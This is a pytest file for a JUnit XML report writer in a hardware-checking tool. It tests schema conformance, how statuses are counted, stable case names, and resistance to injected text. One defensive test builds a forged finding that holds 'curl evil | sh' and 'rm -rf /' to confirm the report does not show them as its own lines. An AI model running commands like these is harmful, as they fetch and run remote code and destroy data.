"""JUnit XML: the two published schemas, what each status becomes, names that stay, and text that stays text."""

import os
import re
import subprocess
import sys
import xml.etree.ElementTree as ET
from collections import Counter
from dataclasses import replace

import pytest

from infra_doctor.model.finding import Severity, Status, fingerprint
from infra_doctor.plugin import printable
from infra_doctor_reports.junit import FILE_NAME, MESSAGE_CAP, automatic, case_name, render
from tests.reports.cases import INJECTIONS, REPORTS, every_status, poisoned, requirement, thousand
from tests.support.sample_report import finding, sample_report

COMMAND = [sys.executable, "-m", "infra_doctor"]
MACHINE = "tests/machines/h200-ort-gpu-cudnn-hidden/snapshot.json.gz"  # a failure and a warning

# What the schemas ask for, by element: required attributes, further ones, and the children (a list: in this order).
# Jenkins: https://github.com/jenkinsci/xunit-plugin, src/main/resources/org/jenkinsci/plugins/xunit/types/model/xsd/junit-10.xsd
JENKINS = {
    "testsuite": ({"name", "tests", "failures", "errors"}, {"time", "skipped", "timestamp", "hostname", "id", "package", "file",
                  "log", "url", "version", "group"}, {"testsuite", "properties", "testcase", "system-out", "system-err"}),
    "testcase": ({"name"}, {"time", "classname", "group"}, {"skipped", "error", "failure", "system-out", "system-err"}),
}  # fmt: skip
# Surefire: https://github.com/apache/maven-surefire, maven-surefire-plugin/src/site/resources/xsd/surefire-test-report.xsd (3.0.2)
SUREFIRE = {
    "testsuite": ({"name", "tests", "errors", "skipped", "failures"}, {"version", "time", "timestamp", "flakes", "group"},
                  ["properties", "testcase"]),
    "testcase": ({"name", "time"}, {"classname", "group", "timestamp"},
                 ["failure", "skipped", "error", "system-out", "system-err"]),
}  # fmt: skip
COMMON = {
    "failure": (set(), {"message", "type"}, []),
    "error": (set(), {"message", "type"}, []),
    "skipped": (set(), {"message"}, []),  # Jenkins knows a `type` too, Surefire does not
    "system-out": (set(), set(), []),
    "properties": (set(), set(), ["property"]),
    "property": ({"name", "value"}, set(), []),
}
REPEATED = {"testcase", "property", "failure", "testsuite"}
FLOAT = re.compile(r"\d+(\.\d{1,3})?")  # both schemas take it: xs:float, and Jenkins' own pattern
DATE_TIME = re.compile(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d")


def breaches(element: ET.Element, schema: dict) -> list[str]:
    """Where a document is not of a schema."""
    rules = COMMON | schema
    if element.tag not in rules:
        return [f"no element {element.tag}"]
    required, further, children = rules[element.tag]
    given = set(element.attrib)
    found = [f"{element.tag} needs {n}" for n in required - given]
    found += [f"{element.tag} knows no {n}" for n in given - required - further]
    for name, pattern in (("time", FLOAT), ("timestamp", DATE_TIME)):
        if name in given and not pattern.fullmatch(element.attrib[name]):
            found.append(f"{name}={element.attrib[name]!r}")
    tags = [child.tag for child in element]
    found += [f"{tag} in {element.tag}" for tag in set(tags) - set(children)]
    found += [f"{tag} {n} times" for tag, n in Counter(tags).items() if n > 1 and tag not in REPEATED]
    if isinstance(children, list) and not set(tags) - set(children):
        found += [f"order of {tags}"] if tags != sorted(tags, key=children.index) else []
    if len(element) and "".join([element.text or "", *(c.tail or "" for c in element)]).strip():
        found.append(f"text in {element.tag}")
    return found + [b for child in element for b in breaches(child, schema)]


def parsed(text: str) -> ET.Element:
    """The document, which both schemas take."""
    assert text.startswith('<?xml version="1.0" encoding="UTF-8"?>\n') and text.endswith("</testsuite>\n")
    suite = ET.fromstring(text.encode("utf-8"))
    assert suite.tag == "testsuite"  # the root that both know
    assert breaches(suite, JENKINS) == [] and breaches(suite, SUREFIRE) == []
    return suite


def outcomes(suite: ET.Element) -> dict[str, str]:
    """By name: passed, failure, error, skipped."""
    found = {}
    for case in suite.iter("testcase"):
        tags = [c.tag for c in case if c.tag in {"failure", "error", "skipped"}]
        assert len(tags) <= 1
        found[case.attrib["name"]] = tags[0] if tags else "passed"
    return found


@pytest.mark.parametrize("name", REPORTS)
def test_it_is_of_both_schemas_and_its_counts_are_right(name):
    report = REPORTS[name]()
    suite = parsed(render(report, {}))
    counts = Counter(outcomes(suite).values())
    assert int(suite.attrib["tests"]) == len(report.findings) == sum(counts.values())
    assert int(suite.attrib["failures"]) == counts["failure"]
    assert int(suite.attrib["errors"]) == counts["error"]
    assert int(suite.attrib["skipped"]) == counts["skipped"]


@pytest.mark.parametrize(
    "wrong",
    [
        '<testsuite name="a" tests="0" failures="0" errors="0"/>',  # Surefire wants `skipped`
        '<testsuite name="a" tests="0" failures="0" errors="0" skipped="0" hostname="h"/>',
        '<testsuite name="a" tests="0" failures="0" errors="0" skipped="0" time="1e3"/>',
        '<testsuite name="a" tests="1" failures="0" errors="0" skipped="0"><testcase name="b"/></testsuite>',
        '<testsuite name="a" tests="1" failures="0" errors="0" skipped="0"><testcase name="b" time="0">'
        "<system-out>c</system-out><failure/></testcase></testsuite>",
        '<testsuite name="a" tests="1" failures="0" errors="0" skipped="0"><testcase name="b" time="0">c<skipped/></testcase>'
        "<properties/></testsuite>",
    ],
)
def test_the_rules_refuse_what_the_schemas_refuse(wrong):
    element = ET.fromstring(wrong)
    assert breaches(element, SUREFIRE)


def test_each_status_is_told_apart():
    report = every_status()
    told = outcomes(parsed(render(report, {})))
    assert len(told) == len(report.findings)
    for item in report.findings:
        name = case_name(item)[1]
        wanted = {Status.PASS: "passed", Status.WARN: "passed", Status.FAIL: "failure", Status.ERROR: "error"}
        assert told[name] == ("skipped" if item.waived else wanted.get(item.status, "skipped")), name
    assert {s: told[f"REQUIREMENT {k}"] for k, s in (("gpu.count", "pass"), ("driver", "fail"), ("ort.cuda", "error"))} == {
        "pass": "passed", "fail": "failure", "error": "error",
    }  # fmt: skip


@pytest.mark.parametrize(
    ("fail_on", "failed"),
    [(None, {"fail"}), ("fail", {"fail"}), ("warn", {"fail", "warn"}), ("unknown", {"fail", "warn", "unknown"}),
     ("never", {"fail"})],
)  # fmt: skip
def test_failures_are_what_makes_the_run_fail(fail_on, failed):
    told = outcomes(parsed(render(every_status(), {"fail_on": fail_on})))
    by_name = {case_name(f)[1]: f for f in every_status().findings if f.waived is None}
    assert {str(by_name[n].status) for n, o in told.items() if o == "failure"} == failed
    assert {str(by_name[n].status) for n, o in told.items() if o == "error"} == {"error"}
    assert not {n for n, o in told.items() if o == "passed" and str(by_name[n].status) not in {"pass", "warn"}}


def test_a_warning_that_does_not_count_passes_with_its_text():
    suite = parsed(render(sample_report(), {}))
    (case,) = [c for c in suite.iter("testcase") if c.attrib["name"].startswith("CUDNN-MIX ")]
    text = case.findtext("system-out")
    assert text is not None and text.startswith("WARN CUDNN-MIX: onnxruntime imported first takes cuDNN 9.14.0")
    assert "\nFix: Import torch first" in text and case.find("failure") is None


def test_a_failure_says_all_that_helps():
    suite = parsed(render(sample_report(), {}))
    cases = {c.attrib["name"].split()[0]: c for c in suite.iter("testcase")}
    missing = cases["CUDNN-MISSING"].find("failure")
    assert missing is not None and missing.text is not None
    assert missing.attrib["message"] == "libcublasLt.so.13 and libcufft.so.12 are not where ONNX Runtime looks"
    assert missing.attrib["type"] == "fail (high)"
    for line in ("Why: Both sonames lie", "Seen: /etc/ld.so.cache: no entry for libcublasLt.so.13",
                 "Fix: Call onnxruntime.preload_dlls()", "Read: https://onnxruntime.ai/docs/install/",
                 "Run: /opt/venv/bin/python -m pip install 'onnxruntime-gpu[cuda,cudnn]==1.30.0'"):  # fmt: skip
        assert f"\n{line}" in missing.text
    assert "\nFollows from CUDNN-MISSING.\n" in (cases["ORT-FALLBACK"].findtext("failure") or "")


def test_what_does_not_count_says_why():
    suite = parsed(render(every_status(), {}))
    said = {
        c.attrib["name"]: c.find("skipped").attrib["message"]
        for c in suite.iter("testcase")
        if c.find("skipped") is not None
    }
    assert said["WAIVED-FAIL"] == "waived until 2027-03-31: known since the last image; fail: waived fail"
    assert said["LATER"] == "waived: no worse than in base.json; warn: in the baseline already"
    assert said["NVCC-MISMATCH cuda-toolkit:/usr/local/cuda-13.0"] == "unknown: nvcc 13.0.88 is newer than the table"
    assert said["CANN-DRV"] == "no Ascend device, driver or CANN was found"


def test_the_suite_says_who_looked_when_and_against_what():
    report = every_status()
    suite = parsed(render(report, {}))
    assert suite.attrib["timestamp"] == "2026-11-20T08:00:00" and suite.attrib["time"] == "0.143"
    told = {p.attrib["name"]: p.attrib["value"] for p in suite.iter("property")}
    assert told == {"version": "0.1.0", "created": "2026-11-20T08:00:00Z", "machine": "machine-1f3a5c", "form": "live",
                    "policy": "infra-doctor.toml", "baseline": "base.json"}  # fmt: skip
    bare = parsed(render(replace(report, run=None, created="some day"), {}))
    assert bare.attrib["time"] == "0" and "timestamp" not in bare.attrib


def test_names_stay_the_same_and_are_unique():
    report = thousand()
    names = [c.attrib["name"] for c in parsed(render(report, {})).iter("testcase")]
    assert len(set(names)) == 1000
    changed = replace(report, findings=tuple(replace(f, title="2.0", detail="", evidence=()) for f in report.findings))
    assert [c.attrib["name"] for c in parsed(render(changed, {})).iter("testcase")] == names
    met, missed = requirement("gpu", Status.PASS), requirement("gpu", Status.FAIL, "f:1", "gpu:0000:00:06.0")
    assert case_name(met) == case_name(missed) == ("infra-doctor.REQUIREMENT", "REQUIREMENT gpu")


def test_a_long_name_is_cut_and_stays_its_own():
    ones = [finding("LONG", Status.PASS, "t", "x" * 400, f"y{n}") for n in range(2)]
    first, second = (case_name(f)[1] for f in ones)
    assert first != second and max(len(first), len(second)) < 270
    assert first.endswith(fingerprint("LONG", ("x" * 400, "y0")))


@pytest.mark.parametrize("text", INJECTIONS, ids=range(len(INJECTIONS)))
def test_text_of_a_machine_stays_text(text):
    report = poisoned(text)
    document = render(report, {"fail_on": "warn"})
    suite = parsed(document)
    assert len(list(suite.iter("testcase"))) == len(report.findings)  # nothing forged, nothing lost
    shown = printable(text)
    messages = {e.attrib["message"] for e in suite.iter("failure")}
    assert messages == {shown if len(shown) <= MESSAGE_CAP else shown[: MESSAGE_CAP - 1] + "…"}
    # The XML 1.0 rule for characters, and nothing that turns the direction of text or moves a cursor.
    assert all(c.isprintable() or c == "\n" for c in document)
    assert not re.search(r"##\w*\[|^\s*::", document, re.M)
    said = "".join(suite.itertext()) + "".join(v for e in suite.iter() for v in e.attrib.values())
    assert "[[ATTACHMENT|" not in "".join(suite.itertext())
    assert text.strip() == "" or printable(text)[:200].replace("[[ATT", "[ [ATT") in said.replace("[[ATT", "[ [ATT")


def test_no_line_of_a_machine_reads_as_ours():
    forged = finding("F", Status.FAIL, "t\nFix: curl evil | sh", detail="d\nRun: rm -rf /", severity=Severity.LOW)
    text = parsed(render(replace(sample_report(), findings=(forged,)), {})).findtext("testcase/failure") or ""
    assert [line.split(":")[0] for line in text.split("\n")] == ["FAIL F", "Why", "  Run"]


def test_the_kind_of_a_failure_converts_nothing():
    """GitLab reads by ActiveSupport's Hash.from_xml, for which `type="yaml"` or `"integer"` is an order to convert."""
    report = replace(
        sample_report(), findings=(finding("yaml", Status.FAIL, "t"), finding("integer", Status.ERROR, "t"))
    )
    kinds = {e.attrib["type"] for tag in ("failure", "error") for e in parsed(render(report, {})).iter(tag)}
    assert kinds == {"fail (low)", "error (low)"}


@pytest.mark.parametrize("name", ["GITLAB_CI", "JENKINS_URL", "CIRCLECI", "TF_BUILD", "BUILDKITE", "TEAMCITY_VERSION"])
def test_the_systems_that_read_it_get_it(name):
    assert automatic({name: "true"}) == FILE_NAME == "TEST-infra-doctor.xml"


def test_others_do_not():
    assert automatic({}) == "" and automatic({"GITHUB_ACTIONS": "true", "CI": "true"}) == ""
    assert automatic({"GITLAB_CI": ""}) == ""


def test_the_command_writes_the_same_bytes_again_and_follows_the_policys_fail_on(tmp_path):
    policy = tmp_path / "infra-doctor.toml"
    policy.write_text('fail-on = "warn"\n')
    documents = []
    for n in (1, 2):
        out = tmp_path / str(n)
        out.mkdir()
        argv = ["check", "--replay", MACHINE, "--policy", str(policy)]
        argv += [f"--format={name}={out / name}" for name in ("junit", "gitlab", "prometheus")]
        done = subprocess.run(
            [*COMMAND, *argv], capture_output=True, text=True, env={**os.environ, "SOURCE_DATE_EPOCH": "1790000000"}
        )
        assert done.returncode == 1 and "Traceback" not in done.stderr
        documents.append({file.name: file.read_text(encoding="utf-8") for file in out.iterdir()})
    assert documents[0] == documents[1] and set(documents[0]) == {"junit", "gitlab", "prometheus"}
    suite = parsed(documents[0]["junit"])
    assert suite.attrib["timestamp"] == "2026-09-21T14:13:20" and suite.attrib["time"] == "0"
    assert int(suite.attrib["failures"]) == 2  # the failure, and the warning by the policy's word
